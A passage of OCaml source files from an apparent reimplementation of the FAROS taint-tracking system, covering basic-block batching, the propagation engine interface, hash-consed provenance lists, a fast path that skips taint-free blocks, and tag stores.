  mutable pending : (Faros_vm.Cpu.t * Faros_vm.Cpu.effect) list;
  max_block : int;  (** flush threshold for straight-line runs *)
  mutable blocks_flushed : int;
  h_block_size : Faros_obs.Metrics.histogram;
      (** instructions per flushed block, in the engine's registry as
          ["block.size"] *)
}

val create :
  ?policy:Policy.t ->
  ?max_block:int ->
  ?interner:Prov_intern.store ->
  unit ->
  t
val of_engine : ?max_block:int -> Engine.t -> t

val flush : t -> unit
val on_exec : t -> Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit

val on_os_event :
  t -> resolve_asid:(int -> int option) -> Faros_os.Os_event.t -> unit

val finish : t -> unit
(** Process any trailing partial block (end of replay). *)
