(* Basic-block batched processing.

   The paper's implementation receives instructions one basic block at a
   time: "After a basic block ... is executed in the guest OS, FAROS gets a
   list of CPU instructions for that basic block.  It then processes these
   instructions and propagates the taint information" (Section V-A).

   This wrapper reproduces that discipline over the same {!Engine}: effects
   buffer until the block ends (a branch, a syscall, or a halt) and are
   then processed in order.  Kernel events force a flush first, so the
   interleaving of instruction-level and syscall-level propagation is
   preserved.  Deferred processing is observationally equivalent to
   per-instruction processing — the differential test in the suite pins
   that equivalence on the real attack corpus. *)

type t = {
  engine : Engine.t;
  mutable pending : (Faros_vm.Cpu.t * Faros_vm.Cpu.effect) list;  (* newest first *)
  max_block : int;
  mutable blocks_flushed : int;
  h_block_size : Faros_obs.Metrics.histogram;  (* instructions per flushed block *)
}

let of_engine ?(max_block = 64) (engine : Engine.t) =
  {
    engine;
    pending = [];
    max_block;
    blocks_flushed = 0;
    h_block_size = Faros_obs.Metrics.histogram engine.metrics "block.size";
  }

let create ?(policy = Policy.faros_default) ?(max_block = 64) ?interner () =
  of_engine ~max_block (Engine.create ~policy ?interner ())

let flush_pending t =
  match t.pending with
  | [] -> ()
  | pending ->
    t.pending <- [];
    t.blocks_flushed <- t.blocks_flushed + 1;
    let size = List.length pending in
    Faros_obs.Metrics.observe t.h_block_size size;
    if Faros_obs.Trace.enabled t.engine.trace then
      Faros_obs.Trace.emit t.engine.trace ~cat:"block" ~name:"block_flush"
        ~pid:0
        [ ("size", Int size) ];
    List.iter (fun (cpu, eff) -> Engine.on_exec t.engine cpu eff) (List.rev pending)

(* [dift.block_flush] wraps the whole drained block; the per-instruction
   [dift.propagate] spans nest inside it, so the tree shows batching
   overhead (list reversal, buffering) as the flush's self time. *)
let flush t =
  let prof = t.engine.Engine.profile in
  if Faros_obs.Profile.enabled prof && t.pending != [] then begin
    Faros_obs.Profile.enter prof "dift.block_flush";
    flush_pending t;
    Faros_obs.Profile.exit prof
  end
  else flush_pending t

let block_ends (i : Faros_vm.Isa.t) =
  Faros_vm.Isa.is_branch i || i = Faros_vm.Isa.Syscall || i = Faros_vm.Isa.Halt

let on_exec t cpu (eff : Faros_vm.Cpu.effect) =
  t.pending <- (cpu, eff) :: t.pending;
  if block_ends eff.e_instr || List.length t.pending >= t.max_block then flush t

(* Kernel events happen at syscall dispatch: everything executed before the
   event must be processed before the event's own taint insertion. *)
let on_os_event t ~resolve_asid ev =
  flush t;
  Engine.on_os_event t.engine ~resolve_asid ev

(* Process any trailing partial block (end of replay). *)
let finish t = flush t
