(** The whole-system DIFT engine.

    Consumes CPU execution effects (per instruction) and kernel events (per
    syscall) and maintains shadow state according to the active {!Policy}.
    Three responsibilities:

    - {b tag insertion}: netflow tags on received packets, file tags on file
      I/O (including image loads), process tags whenever a process touches
      an already-tainted byte — {e including instruction fetch}, which is how
      a victim process's tag ends up on injected code;
    - {b tag propagation}: Table I's copy/union/delete per instruction, plus
      the policy-controlled indirect flows;
    - {b observation}: load observers receive, for every executed load, the
      provenance of the instruction's own code bytes and of the data it
      read — the exact inputs of FAROS's flagging rule. *)

(** What a load observer sees for one executed load instruction. *)
type load_info = {
  li_asid : int;  (** CR3 of the executing process *)
  li_pc : int;  (** virtual address of the load *)
  li_instr : Faros_vm.Isa.t;
  li_instr_prov : Provenance.t;  (** provenance of the load's own code bytes *)
  li_read_vaddr : int;
  li_read_paddr : int;
  li_read_prov : Provenance.t;  (** provenance of the data read *)
}

type t = {
  shadow : Shadow.t;
  store : Tag_store.t;
  interner : Prov_intern.store;
      (** the {!Prov_intern.store} this engine's provenance lives in; the
          engine must only run on a domain whose current store this is *)
  policy : Policy.t;
  file_shadow : (string, Provenance.t array ref) Hashtbl.t;
      (** per-file byte provenance: how taint flows through files (Fig. 4) *)
  control : (int, int * Provenance.t) Hashtbl.t;
  load_observers : (load_info -> unit) Queue.t;
  metrics : Faros_obs.Metrics.t;  (** registry backing {!stats} *)
  trace : Faros_obs.Trace.t;  (** structured-event sink (null when off) *)
  profile : Faros_obs.Profile.t;
      (** span profiler (disabled by default); [on_exec] runs under
          [dift.propagate], [on_os_event] under [dift.os_event] *)
  c_instrs : Faros_obs.Metrics.counter;
  c_os_events : Faros_obs.Metrics.counter;
  c_netflow_inserts : Faros_obs.Metrics.counter;
  c_file_inserts : Faros_obs.Metrics.counter;
  c_export_inserts : Faros_obs.Metrics.counter;
}

val create :
  ?policy:Policy.t ->
  ?metrics:Faros_obs.Metrics.t ->
  ?trace:Faros_obs.Trace.t ->
  ?profile:Faros_obs.Profile.t ->
  ?interner:Prov_intern.store ->
  unit ->
  t
(** [metrics] is the registry the engine's counters and gauges live in (a
    fresh one by default); [trace] receives ["tag_insert"] events
    (category ["engine"]) and the shadow's ["page_alloc"] events, and
    defaults to the disabled sink.  [interner] is the provenance store
    the engine's shadow resolves against (default: the calling domain's
    current store). *)

val add_load_observer : t -> (load_info -> unit) -> unit

val on_exec : t -> Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit
(** Per-instruction propagation: attach as a machine execution hook. *)

val control_active : t -> asid:int -> bool
(** Is a control-dependency window open for this asid?  While one is,
    every write picks up the window's provenance, so the fast path must
    not skip (see {!Fastpath}). *)

val note_skipped : t -> unit
(** Account one instruction the fast path proved propagation-free: it
    still counts toward [engine.instrs], keeping instruction accounting
    identical to the slow path. *)

val notify_skipped_load :
  t -> instr_prov:Provenance.t -> Faros_vm.Cpu.effect -> unit
(** Deliver a skipped load to the observers: empty data provenance (the
    skip preconditions proved the read untainted) and [instr_prov] as the
    code-byte provenance — empty for a code-clean block, the cached
    converged fetch provenance for a code-tainted one.  In both cases
    exactly what the slow path would have computed, so detector counts
    and verdicts stay byte-identical. *)

val on_os_event :
  t -> resolve_asid:(int -> int option) -> Faros_os.Os_event.t -> unit
(** Tag insertion and host-side copy propagation for kernel events.
    [resolve_asid] maps a pid to its CR3 (the kernel knows; the engine must
    not depend on it). *)

val taint_export_pointers : t -> (string * int list) list -> unit
(** Startup scan of loaded modules: taint each exported function pointer's
    physical bytes with an export-table tag carrying the function's name. *)

val instrs_processed : t -> int
(** Instructions the engine has propagated over (a counter read). *)

val refresh_metrics : t -> unit
(** Push current shadow / tag-store / intern-table sizes into registry
    gauges ([shadow.*], [store.*], [prov.interned]). *)

(** A point-in-time summary of the engine, by name — the positional 5-int
    tuple this replaces mixed up its fields too easily. *)
type stats = {
  instrs : int;
  tainted_bytes : int;
  netflow_tags : int;
  process_tags : int;
  file_tags : int;
}

val stats : t -> stats
(** Snapshot the engine (also refreshes the registry gauges). *)
