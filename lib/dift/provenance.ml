(* Provenance lists (Fig. 4): ordered tag lists, newest first.

   A byte's provenance is its life story: "came from this netflow, was
   touched by this process, then that one".  The representation is the
   hash-consed form of {!Prov_intern}: every distinct list is interned
   once, Table I's copy rule is a pointer assignment, prepend/union are
   memoized per interned id, and the type-membership queries the detector
   keys on are cached bitmask reads.  A length cap bounds the memory an
   adversary could force by generating enormous tag chains (the paper's
   "exhaust FAROS' memory" evasion); the cap drops the *oldest* entries,
   preserving recent history and type membership of recent tags. *)

type t = Prov_intern.t

let empty = Prov_intern.empty
let is_empty = Prov_intern.is_empty
let max_length = Prov_intern.max_length
let equal = Prov_intern.equal
let length = Prov_intern.length
let of_list = Prov_intern.of_list
let to_list = Prov_intern.to_list
let head = Prov_intern.head
let singleton = Prov_intern.singleton

(* Prepend a tag; a no-op if it is already the head (so hot loops do not
   grow lists), a move-to-front if it is already present anywhere (so
   processes re-touching a byte cannot evict its origin tags). *)
let prepend = Prov_intern.prepend

(* Order-preserving union: tags of [b] not already in [a], appended after
   [a] (Table I's union rule). *)
let union = Prov_intern.union

let mem = Prov_intern.mem
let has_type = Prov_intern.has_type

let has_netflow p = has_type Tag.Ty_netflow p
let has_export p = has_type Tag.Ty_export p
let has_file p = has_type Tag.Ty_file p

(* Distinct indices of one tag type, newest first (list order preserved). *)
let indices_of f p =
  List.filter_map f (to_list p)
  |> List.fold_left (fun acc i -> if List.mem i acc then acc else i :: acc) []
  |> List.rev

let process_indices p =
  indices_of (function Tag.Process i -> Some i | _ -> None) p

let netflow_indices p =
  indices_of (function Tag.Netflow i -> Some i | _ -> None) p

let file_indices p = indices_of (function Tag.File i -> Some i | _ -> None) p

(* Tag confluence (Section IV): number of distinct tag *types* present —
   both answered from the bitmask cached on the interned node. *)
let distinct_types = Prov_intern.distinct_types
let confluence = Prov_intern.confluence
let distinct_process_count = Prov_intern.distinct_process_count

let pp = Prov_intern.pp
