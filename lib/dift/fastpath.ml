(* Demand-driven DIFT: skip propagation over provably-inert blocks.

   The hardware-DIFT literature decouples tracking from execution by
   precomputing per-block flow summaries and running the tracker only
   when tainted state is in reach; this is the software analogue on top
   of the translation-block cache.  Every cached block carries a
   {!Faros_vm.Tb_cache.summary} compiled at decode time; before handing
   an executed instruction to the engine we ask whether propagating it
   could possibly change shadow state or observer inputs:

   - a register the block names is tainted for its asid        -> run
   - the block touches flags and the flags are tainted         -> run
   - a control-dependency window is open for the asid          -> run
     (every write would pick up the window's provenance)
   - the block's own code bytes are all untainted              -> skip
     (probing each executed access per instruction if it touches
     memory: all clean -> skip that instruction, tainted -> run it)
   - the code bytes are tainted but every one already carries this
     process's tag at the head of its provenance               -> skip
     with the *cached fetch provenance*: the fetch touch has converged
     (prepend of the process tag is a no-op), so propagation would
     change nothing, and observers receive the exact instruction
     provenance the slow path would compute.  Under whole-image file
     tagging this is the common steady state — every loaded image byte
     is file-tainted, so a code-clean test alone would pin all of
     userland to the slow path.
   - anything else — unconverged code taint (the first execution of
     freshly written or injected code: the fetch touch must run so the
     process tag lands on it — code-taint detection, "including
     instruction fetch", is FAROS's core injection signal), or a
     taint-immediates policy with tainted code (immediates inherit the
     code bytes' provenance, so register writes are not no-ops) -> run.

   Skipping is sound because propagation of such an instruction is the
   identity: every register and flag it names is clean so unions are
   empty and writes write empty (a no-op on clean targets — probed per
   access), and the fetch touch either finds untainted bytes or has
   converged.  A skipped instruction still increments the engine's
   instruction counter and still notifies load observers with the same
   (instr_prov, read_prov) the slow path would compute, so metrics,
   detector verdicts and reports are byte-identical either way; the
   four-way differential suite pins this over the corpus.

   Verdicts are cached per block and keyed on {!Shadow.generation},
   which bumps on every shadow mutation — taint created, cleared or
   re-tagged, and control windows opening — so both a cached skip and
   its cached fetch provenance are revalidated whenever the shadow
   moves, while converged hot loops (which mutate nothing) keep their
   verdicts indefinitely.  Entries compare the block by physical
   identity, not key: after SMC retranslation a key aliases a brand-new
   block whose verdict must be recomputed. *)

type verdict =
  | Run  (* tainted state in reach: full propagation *)
  | Skip  (* code clean; skip if the executed accesses probe clean *)
  | Skip_fetch of Provenance.t array
      (* code tainted but converged: per-entry fetch provenance for the
         observers; skip under the same access probes *)

type cached = { c_block : Faros_vm.Tb_cache.block; c_gen : int; c_verdict : verdict }

type t = {
  engine : Engine.t;
  batcher : Block_engine.t option;  (* present when block_processing *)
  machine : Faros_vm.Machine.t;  (* source of the executing block *)
  verdicts : (int, cached) Hashtbl.t;  (* b_key -> cached verdict *)
  mutable hits : int;  (* instructions skipped *)
  mutable misses : int;  (* instructions propagated *)
}

let create ?batcher ~machine engine =
  { engine; batcher; machine; verdicts = Hashtbl.create 256; hits = 0; misses = 0 }

let stats t = (t.hits, t.misses)

(* Every register the summary names must be untainted for the asid; the
   global count short-circuits the per-register probes in the (common)
   fully-clean case. *)
let regs_clean shadow ~asid mask =
  Shadow.tainted_regs shadow = 0
  ||
  let rec go r mask =
    mask = 0
    || ((mask land 1 = 0 || Provenance.is_empty (Shadow.get_reg shadow ~asid r))
       && go (r + 1) (mask lsr 1))
  in
  go 0 mask

(* Code checks are byte-exact because guest images routinely pack data
   buffers (recv targets, key-logger capture space) onto the same 4 KiB
   pages as code: a page probe alone would pin every block on such a page
   to the slow path forever after the first received byte.  The page
   probe still short-circuits the all-clean case; only blocks on live
   pages pay the per-byte scan, and the verdict is cached until the
   shadow generation moves. *)
let code_clean shadow (b : Faros_vm.Tb_cache.block) =
  Array.for_all
    (fun pfn -> not (Shadow.page_tainted shadow (pfn lsl Shadow.page_shift)))
    b.b_pfns
  || Array.for_all
       (fun (e : Faros_vm.Tb_cache.entry) ->
         Array.for_all
           (fun paddr -> not (Shadow.byte_tainted shadow paddr))
           e.en_code_paddrs)
       b.b_entries

(* Has the fetch touch converged — does every tainted code byte already
   carry this process's tag at the head of its provenance, so that
   [touch_byte] (a head prepend) is a no-op on all of them?  If so,
   return the per-entry instruction provenance the slow path would
   compute: the in-order union of each entry's code-byte provenance.
   The head probe identifies the process tag through {!Tag_store.cr3_of}
   rather than minting one, so a never-converged process creates its tag
   on the slow path exactly when the paper says it should — at its first
   touch of a tainted byte. *)
let fetch_converged t (b : Faros_vm.Tb_cache.block) =
  let shadow = t.engine.Engine.shadow and store = t.engine.Engine.store in
  let asid = b.b_asid in
  let converged p =
    match Provenance.head p with
    | Some (Tag.Process idx) -> Tag_store.cr3_of store idx = Some asid
    | Some _ | None -> false
  in
  let ok = ref true in
  let provs =
    Array.map
      (fun (e : Faros_vm.Tb_cache.entry) ->
        let acc = ref Provenance.empty in
        if !ok then
          Array.iter
            (fun paddr ->
              let p = Shadow.get_mem shadow paddr in
              if not (Provenance.is_empty p) then
                if converged p then acc := Provenance.union !acc p
                else ok := false)
            e.en_code_paddrs;
        !acc)
      b.b_entries
  in
  if !ok then Some provs else None

let compute_verdict t (b : Faros_vm.Tb_cache.block) =
  let shadow = t.engine.Engine.shadow in
  let asid = b.b_asid in
  let su = b.b_summary in
  if Engine.control_active t.engine ~asid then Run
  else if
    su.su_flags && not (Provenance.is_empty (Shadow.get_flags shadow ~asid))
  then Run
  else if not (regs_clean shadow ~asid su.su_regs) then Run
  else if code_clean shadow b then Skip
  else if t.engine.Engine.policy.Policy.taint_immediates then
    (* Immediates inherit the (tainted) code bytes' provenance, so
       register writes would not be no-ops. *)
    Run
  else match fetch_converged t b with Some provs -> Skip_fetch provs | None -> Run

let verdict_for t (b : Faros_vm.Tb_cache.block) =
  let gen = Shadow.generation t.engine.Engine.shadow in
  match Hashtbl.find_opt t.verdicts b.b_key with
  | Some c when c.c_block == b && c.c_gen = gen -> c.c_verdict
  | _ ->
    let v = compute_verdict t b in
    Hashtbl.replace t.verdicts b.b_key { c_block = b; c_gen = gen; c_verdict = v };
    v

(* Accesses are byte-exact for the same page-sharing reason as code; at
   most 8 bytes, so this is a page probe or two plus a short scan. *)
let access_clean shadow (a : Faros_vm.Cpu.mem_access) =
  not (Shadow.range_tainted shadow a.paddr a.width)

let accesses_clean shadow (eff : Faros_vm.Cpu.effect) =
  List.for_all (access_clean shadow) eff.e_loads
  && List.for_all (access_clean shadow) eff.e_stores

(* The executed accesses probe clean (trivially so when the summary says
   the block never touches memory). *)
let effect_clean t (b : Faros_vm.Tb_cache.block) eff =
  (not b.b_summary.su_mem) || accesses_clean t.engine.Engine.shadow eff

let skip t ~instr_prov eff =
  t.hits <- t.hits + 1;
  Engine.note_skipped t.engine;
  Engine.notify_skipped_load t.engine ~instr_prov eff

let run t cpu eff =
  t.misses <- t.misses + 1;
  match t.batcher with
  | Some b -> Block_engine.on_exec b cpu eff
  | None -> Engine.on_exec t.engine cpu eff

(* The pre-check decision, separated from acting on it so the profiler
   can attribute the verdict lookup and probes ([dift.precheck]) apart
   from the propagation they avoid or trigger. *)
type decision = Dec_skip of Provenance.t | Dec_run

let decide t (eff : Faros_vm.Cpu.effect) =
  (* In batched mode the shadow lags the guest by the batcher's pending
     effects; a verdict read from it is only trustworthy when nothing is
     pending.  (A skippable run keeps pending empty, so whole clean
     blocks still skip.) *)
  let may_skip =
    match t.batcher with
    | None -> true
    | Some b -> b.Block_engine.pending == []
  in
  match t.machine.Faros_vm.Machine.cur_block with
  | Some b when may_skip && b.b_valid && b.b_asid = eff.e_asid -> (
    match verdict_for t b with
    | Run -> Dec_run
    | Skip ->
      if effect_clean t b eff then Dec_skip Provenance.empty else Dec_run
    | Skip_fetch provs ->
      (* The machine's cursor has already advanced past the entry it just
         executed; re-anchor on the effect's pc in case a hook moved it. *)
      let idx = t.machine.Faros_vm.Machine.cur_idx - 1 in
      if
        idx >= 0
        && idx < Array.length provs
        && (Array.unsafe_get b.b_entries idx).en_pc = eff.e_pc
        && effect_clean t b eff
      then Dec_skip (Array.unsafe_get provs idx)
      else Dec_run)
  | _ ->
    (* Uncached execution (cold translation failure, cache disabled) has
       no summary: always propagate. *)
    Dec_run

let on_exec t cpu (eff : Faros_vm.Cpu.effect) =
  let prof = t.engine.Engine.profile in
  let d =
    if Faros_obs.Profile.enabled prof then begin
      Faros_obs.Profile.enter prof "dift.precheck";
      let d = decide t eff in
      Faros_obs.Profile.exit prof;
      d
    end
    else decide t eff
  in
  match d with
  | Dec_skip instr_prov -> skip t ~instr_prov eff
  | Dec_run -> run t cpu eff
