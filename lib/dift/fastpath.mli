(** Demand-driven DIFT: skip propagation over provably-inert blocks.

    Sits between the machine's execution hook and the {!Engine} (or
    {!Block_engine}): consults the executing translation block's taint
    summary plus O(1) shadow probes, and skips propagation when the
    block provably cannot change shadow state or observer inputs — the
    software analogue of hardware DIFT's decoupled tracking.  Blocks
    whose registers, flags and code bytes are untainted skip outright
    (memory accesses probed per instruction); blocks whose code bytes
    are tainted skip only once their fetch touch has {e converged} —
    every code byte already heads with this process's tag, so the touch
    is a no-op — and then hand observers the cached fetch provenance.
    Never skips the first execution of freshly tainted code (the fetch
    touch must run so the process tag lands on it — instruction-fetch
    taint is FAROS's core injection signal), while a control-dependency
    window is open, or in batched mode while effects are pending.
    Skipped instructions still count toward [engine.instrs] and still
    notify load observers with the provenance the slow path would have
    computed, so analysis results are byte-identical with the fast path
    on or off; the four-way differential suite pins this over the
    corpus.  See docs/dift-engine.md. *)

type t

val create :
  ?batcher:Block_engine.t -> machine:Faros_vm.Machine.t -> Engine.t -> t
(** [batcher], when given, receives the effects of every non-skipped
    instruction (block_processing mode); otherwise they go straight to
    the engine.  [machine] supplies the currently-executing cached
    block ({!Faros_vm.Machine.cur_block}). *)

val on_exec : t -> Faros_vm.Cpu.t -> Faros_vm.Cpu.effect -> unit
(** Attach in place of {!Engine.on_exec} / {!Block_engine.on_exec}. *)

val stats : t -> int * int
(** [(hits, misses)]: instructions skipped vs propagated. *)
