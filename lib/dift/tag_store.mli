(** The tag hash maps of Fig. 5.

    Each map interns the payload of one tag type — netflow 4-tuples, process
    CR3 values, (file name, version) pairs, exported function names — and
    hands out the 16-bit index a prov_tag carries.  Entries exist only for
    objects that have been involved with tainted bytes, which is what bounds
    the maps. *)

type file_id = { file_name : string; file_version : int }

type t

exception Overflow of string
(** Raised when a store would mint index 0x10000 — one past what the
    16-bit prov_tag wire format (Fig. 6) can carry.  Raised at intern
    time with the overflowing store's name, rather than surfacing as a
    [Tag.Bad_prov_tag] much later at encode time. *)

val create : unit -> t

val netflow : t -> Faros_os.Types.flow -> Tag.t
(** Intern a flow; returns its [Netflow] tag.  Idempotent per flow. *)

val process : t -> int -> Tag.t
(** Intern a CR3 value; returns its [Process] tag. *)

val file : t -> name:string -> version:int -> Tag.t
(** Intern a (file name, access-count version) pair; returns its [File]
    tag.  Distinct versions of the same file intern separately. *)

val export : t -> name:string -> Tag.t
(** Intern an exported function name; returns its [Export_table] tag.
    This is the per-function payload the paper lists as future work. *)

val netflow_of : t -> int -> Faros_os.Types.flow option
val cr3_of : t -> int -> int option
val file_of : t -> int -> file_id option
val export_of : t -> int -> string option

val netflow_count : t -> int
val process_count : t -> int
val file_count : t -> int
val export_count : t -> int
