(* Hash-consed provenance lists.

   Every distinct provenance list is interned exactly once, as a chain of
   interned cons cells: a cell is unique for its (tag, tail) pair, so a
   whole list is identified by the integer id of its head cell.  Id 0 is
   the empty provenance — the invariant {!Shadow} relies on to store one
   int per byte with 0 meaning "untracked".

   Interning buys the hot path three things:

   - equality is physical equality (one pointer compare), and a list's id
     is a perfect O(1) hash;
   - the Table I operations memoize: [prepend (tag, id)] and
     [union (id, id)] each hit a table keyed by ids, so the steady state
     of a replay — the same few provenance values flowing through millions
     of instructions — does no list traversal at all;
   - every cell caches a bitmask of the tag *types* below it plus the
     distinct-process count, so the confluence queries the detector asks
     on every load are integer compares, not list scans.

   The intern tables are global and append-only.  That is deliberate:
   tag lists are pure values (tags are just constructors around 16-bit
   store indices), so nodes are shareable across engines, and the length
   cap bounds how many distinct lists an adversary can force per tag-store
   population (the paper's memory-exhaustion evasion is bounded at the
   tag-store layer, which refuses to mint more than 2^16 tags per type). *)

type t = {
  id : int;
  tag : Tag.t;  (* newest tag; a sentinel for the empty list *)
  next : t;
  len : int;
  mask : int;  (* bitmask of tag types present in the whole list *)
  nproc : int;  (* distinct process-tag indices in the whole list *)
}

let max_length = 64

let rec empty =
  { id = 0; tag = Tag.Netflow 0; next = empty; len = 0; mask = 0; nproc = 0 }

let id p = p.id
let length p = p.len
let is_empty p = p.len = 0
let equal (a : t) (b : t) = a == b
let hash p = p.id

let ty_bit = function
  | Tag.Ty_netflow -> 1
  | Tag.Ty_process -> 2
  | Tag.Ty_file -> 4
  | Tag.Ty_export -> 8

(* Injective int key for a tag: tags are a type byte plus a store index. *)
let tag_key tag = (Tag.index tag * 8) + Tag.type_byte tag

(* id -> node, for Shadow's int-array pages. *)
let nodes = ref (Array.make 1024 empty)
let node_count = ref 1  (* id 0 is the pre-registered empty list *)

let cons_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 4096
let prepend_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 4096
let union_tbl : (int * int, t) Hashtbl.t = Hashtbl.create 4096

let interned_count () = !node_count

let of_id i =
  if i < 0 || i >= !node_count then invalid_arg "Prov_intern.of_id";
  !nodes.(i)

let register n =
  if n.id >= Array.length !nodes then begin
    let grown = Array.make (2 * Array.length !nodes) empty in
    Array.blit !nodes 0 grown 0 (Array.length !nodes);
    nodes := grown
  end;
  !nodes.(n.id) <- n

let rec mem_proc i p =
  p.len > 0
  && ((match p.tag with Tag.Process j -> j = i | _ -> false) || mem_proc i p.next)

(* The unique cell for [tag :: next].  All construction funnels through
   here, so two structurally equal lists are always the same node. *)
let cons tag next =
  let key = (tag_key tag, next.id) in
  match Hashtbl.find_opt cons_tbl key with
  | Some n -> n
  | None ->
    let nproc =
      match tag with
      | Tag.Process i when not (mem_proc i next) -> next.nproc + 1
      | _ -> next.nproc
    in
    let n =
      {
        id = !node_count;
        tag;
        next;
        len = next.len + 1;
        mask = next.mask lor ty_bit (Tag.ty tag);
        nproc;
      }
    in
    incr node_count;
    register n;
    Hashtbl.replace cons_tbl key n;
    n

let rec to_list p = if p.len = 0 then [] else p.tag :: to_list p.next

(* Keep the newest [max_length] tags (the cap drops oldest entries). *)
let cap_list tags =
  let rec take n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: tl -> x :: take (n - 1) tl
  in
  take max_length tags

let of_list tags = List.fold_right cons (cap_list tags) empty

let mem tag p =
  p.mask land ty_bit (Tag.ty tag) <> 0
  &&
  let rec go q = q.len > 0 && (Tag.equal q.tag tag || go q.next) in
  go p

let has_type ty p = p.mask land ty_bit ty <> 0

let distinct_types p =
  List.filter
    (fun ty -> has_type ty p)
    [ Tag.Ty_netflow; Tag.Ty_process; Tag.Ty_file; Tag.Ty_export ]

let confluence p =
  let m = p.mask in
  (m land 1) + ((m lsr 1) land 1) + ((m lsr 2) land 1) + ((m lsr 3) land 1)

let distinct_process_count p = p.nproc

(* Remove the first occurrence of [tag] (rebuilds the prefix above it). *)
let rec remove tag p =
  if p.len = 0 then p
  else if Tag.equal p.tag tag then p.next
  else cons p.tag (remove tag p.next)

(* Drop the oldest (last) entry. *)
let rec remove_last p =
  if p.len <= 1 then empty else cons p.tag (remove_last p.next)

(* Prepend with dedup anywhere in the list: a tag already present is moved
   to the front instead of duplicated, so a byte alternately touched by two
   processes keeps a two-entry history instead of growing to the cap and
   evicting its origin tags. *)
let prepend tag p =
  if p.len > 0 && Tag.equal p.tag tag then p
  else
    let key = (tag_key tag, p.id) in
    match Hashtbl.find_opt prepend_tbl key with
    | Some n -> n
    | None ->
      let n =
        if mem tag p then cons tag (remove tag p)
        else if p.len >= max_length then cons tag (remove_last p)
        else cons tag p
      in
      Hashtbl.replace prepend_tbl key n;
      n

let singleton tag = cons tag empty

(* Order-preserving union (Table I): [a]'s tags in order, then the tags of
   [b] not already present, capped to the newest [max_length]. *)
let union a b =
  if b.len = 0 then a
  else if a.len = 0 then b
  else if a == b then a
  else
    let key = (a.id, b.id) in
    match Hashtbl.find_opt union_tbl key with
    | Some n -> n
    | None ->
      let extra = List.filter (fun tb -> not (mem tb a)) (to_list b) in
      let n = if extra = [] then a else of_list (to_list a @ extra) in
      Hashtbl.replace union_tbl key n;
      n

let pp ppf p = Fmt.(list ~sep:(any " -> ") Tag.pp) ppf (to_list p)
