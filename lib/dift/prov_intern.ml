(* Hash-consed provenance lists.

   Every distinct provenance list is interned exactly once, as a chain of
   interned cons cells: a cell is unique for its (tag, tail) pair, so a
   whole list is identified by the integer id of its head cell.  Id 0 is
   the empty provenance — the invariant {!Shadow} relies on to store one
   int per byte with 0 meaning "untracked".

   Interning buys the hot path three things:

   - equality is physical equality (one pointer compare), and a list's id
     is a perfect O(1) hash;
   - the Table I operations memoize: [prepend (tag, id)] and
     [union (id, id)] each hit a table keyed by ids, so the steady state
     of a replay — the same few provenance values flowing through millions
     of instructions — does no list traversal at all;
   - every cell caches a bitmask of the tag *types* below it plus the
     distinct-process count, so the confluence queries the detector asks
     on every load are integer compares, not list scans.

   The intern tables live in a {!store}.  A store is append-only, and tag
   lists are pure values, so interning is semantically transparent — but
   the tables are mutable, so a store must never be touched by two domains
   at once.  Each domain therefore owns a *current* store ([Domain.DLS]);
   all construction goes through it, and analyses that must not share
   state (one campaign job per worker) install a fresh store with
   {!set_store} before building any provenance.  Interned nodes are only
   meaningful relative to the store that minted them: ids from different
   stores collide, so values must not leak across a store switch (the
   node with id 0 — {!empty} — is the one shared exception).  The length
   cap bounds how many distinct lists an adversary can force per
   tag-store population (the paper's memory-exhaustion evasion is bounded
   at the tag-store layer, which refuses to mint more than 2^16 tags per
   type). *)

type t = {
  id : int;
  tag : Tag.t;  (* newest tag; a sentinel for the empty list *)
  next : t;
  len : int;
  mask : int;  (* bitmask of tag types present in the whole list *)
  nproc : int;  (* distinct process-tag indices in the whole list *)
}

let max_length = 64

let rec empty =
  { id = 0; tag = Tag.Netflow 0; next = empty; len = 0; mask = 0; nproc = 0 }

(* One interner instance: the id->node table plus the three memo tables.
   Everything mutable in this module lives here. *)
type store = {
  mutable nodes : t array;  (* id -> node, for Shadow's int-array pages *)
  mutable node_count : int;
  cons_tbl : (int * int, t) Hashtbl.t;
  prepend_tbl : (int * int, t) Hashtbl.t;
  union_tbl : (int * int, t) Hashtbl.t;
}

let create_store () =
  {
    nodes = Array.make 1024 empty;
    node_count = 1;  (* id 0 is the pre-registered empty list *)
    cons_tbl = Hashtbl.create 4096;
    prepend_tbl = Hashtbl.create 4096;
    union_tbl = Hashtbl.create 4096;
  }

(* The domain-local current store: domains never share an interner, and a
   fresh domain lazily gets a fresh store. *)
let store_key = Domain.DLS.new_key create_store

let current_store () = Domain.DLS.get store_key
let set_store st = Domain.DLS.set store_key st

let with_store st f =
  let prev = current_store () in
  set_store st;
  Fun.protect ~finally:(fun () -> set_store prev) f

let id p = p.id
let length p = p.len
let is_empty p = p.len = 0
let equal (a : t) (b : t) = a == b
let hash p = p.id

let ty_bit = function
  | Tag.Ty_netflow -> 1
  | Tag.Ty_process -> 2
  | Tag.Ty_file -> 4
  | Tag.Ty_export -> 8

(* Injective int key for a tag: tags are a type byte plus a store index. *)
let tag_key tag = (Tag.index tag * 8) + Tag.type_byte tag

let store_interned_count st = st.node_count
let interned_count () = (current_store ()).node_count

let resolve st i =
  if i < 0 || i >= st.node_count then invalid_arg "Prov_intern.resolve";
  st.nodes.(i)

let of_id i = resolve (current_store ()) i

let register st n =
  if n.id >= Array.length st.nodes then begin
    let grown = Array.make (2 * Array.length st.nodes) empty in
    Array.blit st.nodes 0 grown 0 (Array.length st.nodes);
    st.nodes <- grown
  end;
  st.nodes.(n.id) <- n

let rec mem_proc i p =
  p.len > 0
  && ((match p.tag with Tag.Process j -> j = i | _ -> false) || mem_proc i p.next)

(* The unique cell for [tag :: next] in [st].  All construction funnels
   through here, so two structurally equal lists are always the same node. *)
let cons_in st tag next =
  let key = (tag_key tag, next.id) in
  match Hashtbl.find_opt st.cons_tbl key with
  | Some n -> n
  | None ->
    let nproc =
      match tag with
      | Tag.Process i when not (mem_proc i next) -> next.nproc + 1
      | _ -> next.nproc
    in
    let n =
      {
        id = st.node_count;
        tag;
        next;
        len = next.len + 1;
        mask = next.mask lor ty_bit (Tag.ty tag);
        nproc;
      }
    in
    st.node_count <- st.node_count + 1;
    register st n;
    Hashtbl.replace st.cons_tbl key n;
    n

let cons tag next = cons_in (current_store ()) tag next

let rec to_list p = if p.len = 0 then [] else p.tag :: to_list p.next

let head p = if p.len = 0 then None else Some p.tag

